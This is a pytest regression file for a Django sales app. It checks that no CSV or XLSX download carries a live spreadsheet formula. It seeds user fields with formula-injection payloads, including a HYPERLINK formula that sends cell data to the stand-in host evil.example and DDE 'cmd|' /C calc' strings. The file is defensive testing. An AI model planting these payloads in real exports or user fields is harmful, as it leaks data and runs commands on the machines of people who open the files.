"""No download hands a spreadsheet a formula (issue 17, finding 5).

A rep's objection ``=HYPERLINK(…)`` became a live formula in the review's .xlsx, the
sales quarantine CSV returned ``=``, ``@`` and ``-1+cmd|…`` cells as they came, and the
CSV escaping let ``-<digit>`` formulas through to the audit CSV. Here users put formulas
where they type (a rep's and a clinic's name, an objection, a lesson, a distributor's
cells) and every CSV and XLSX download is opened: no cell may start as a formula.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from onevoice.accounts.choices import Role
from onevoice.campaigns import services as cs
from onevoice.field import services as fs
from onevoice.measurement.dashboards import CHARTS
from onevoice.measurement.models import SalesBatch
from onevoice.measurement.presentation import UPLIFT_TABLES
from onevoice.measurement.sales import sales_import
from tests.measurement.kpi_world import aware, kpi_world, stored_uplift

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
DDE = "-1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


def _is_formula(cell: object) -> bool:
    return (
        isinstance(cell, str)
        and cell[:1] in {"=", "+", "-", "@", "\t", "\r"}
        and not PLAIN_NUMBER.match(cell)
    )


def _csv_cells(body: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


def _xlsx_formulas(body: bytes) -> list[str]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(body))
    return [
        f"{ws.title}!{cell.coordinate}={cell.value!r}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f" or _is_formula(cell.value)
    ]


def _body(response) -> bytes:  # type: ignore[no-untyped-def]
    if response.streaming:
        return b"".join(response.streaming_content)
    return bytes(response.content)


@pytest.fixture
def poisoned(org, tmp_path, settings, client):
    """The KPI world with formulas wherever users type text."""
    w = kpi_world(org, tmp_path, settings)
    rep = org.users[Role.SALES_REP]
    rep.first_name, rep.last_name = HYPERLINK, DDE
    rep.save(update_fields=["first_name", "last_name"])
    fs.clinic_update(clinic=w.clinics["A"], by=rep, changes={"name": DDE})
    objection = cs.objection_raise(campaign=w.campaign, user=rep, text=HYPERLINK)
    fs.activity_log(
        by=rep,
        clinic=w.clinics["B"],
        kind="visit",
        occurred_at=aware(w.campaign.start_date.replace(month=9)),
        campaign=w.campaign,
        objections=[objection],
    )
    stored = stored_uplift(w.campaign)
    client.force_login(org.users[Role.MARKETING])
    review = reverse("measurement:review", args=[w.campaign.slug])
    assert client.post(review, {"text": AT}).status_code == 302
    sales_file = Path(tmp_path) / "distributor.csv"
    sales_file.write_text(
        "clinic_id,date,sku,units,net_revenue,currency\n"
        f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",2025-09-01,SKU-1,1,30,EUR\n'
        f'"{DDE}",2025-09-02,SKU-1,1,30,EUR\n'
        f'"{AT}",2025-09-03,SKU-1,1,30,EUR\n'
        f"A,{PLUS},SKU-1,1,30,EUR\n"
    )
    report = sales_import(path=sales_file, user=None)
    assert report.rows_quarantined == 4, report
    w.uplift, w.batch = stored, SalesBatch.objects.get(batch_id=report.batch_id)
    return w


def _downloads(w, org):  # type: ignore[no-untyped-def]
    """(who, URL) of every CSV and XLSX download of the app."""
    mkt, mgr, admin = (org.users[r] for r in (Role.MARKETING, Role.SALES_MANAGER, Role.ADMIN))
    slug = w.campaign.slug
    out = [
        (mkt, reverse("measurement:review_file", args=[slug, "xlsx"])),
        (admin, reverse("measurement:sales_quarantine", args=[w.batch.batch_id])),
        (admin, reverse("accounts:audit") + "?format=csv"),
        (mkt, reverse("measurement:portfolio_csv")),
        (mkt, reverse("training:readiness", args=[w.program.pk]) + "?format=csv"),
        *(
            (mkt, reverse("measurement:uplift_csv", args=[w.uplift.pk, table]))
            for table in UPLIFT_TABLES
        ),
    ]
    for kind, charts in CHARTS.items():
        who = mkt if kind == "marketing" else mgr
        out += [
            (who, reverse("measurement:dashboard_csv", args=[kind, chart]) + f"?campaign={slug}")
            for chart in charts
        ]
    return out


def test_no_download_hands_a_formula_to_the_spreadsheet(client, org, poisoned):
    found, opened = {}, 0
    everything: list[str] = []
    for who, url in _downloads(poisoned, org):
        client.force_login(who)
        response = client.get(url)
        if response.status_code == 404:  # a chart without data for this campaign
            continue
        assert response.status_code == 200, (url, response.status_code)
        body = _body(response)
        opened += 1
        if url.endswith(".xlsx"):
            bad = _xlsx_formulas(body)
            everything.append(body.decode("latin-1"))
        else:
            cells = _csv_cells(body)
            everything += cells
            bad = [c for c in cells if _is_formula(c)]
        if bad:
            found[url] = bad
    assert not found
    assert opened >= 10
    # The escaped text is there (the files were not just emptied).
    text = "\n".join(everything)
    for payload in (HYPERLINK, DDE, AT):
        assert "'" + payload in text, payload


def test_the_review_workbook_keeps_the_formula_as_text(client, org, poisoned):
    from openpyxl import load_workbook

    client.force_login(org.users[Role.MARKETING])
    url = reverse("measurement:review_file", args=[poisoned.campaign.slug, "xlsx"])
    book = load_workbook(io.BytesIO(_body(client.get(url))))
    values = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert "'" + HYPERLINK in values  # the objection heard, shown as its text
    assert "'" + AT in values  # the lesson
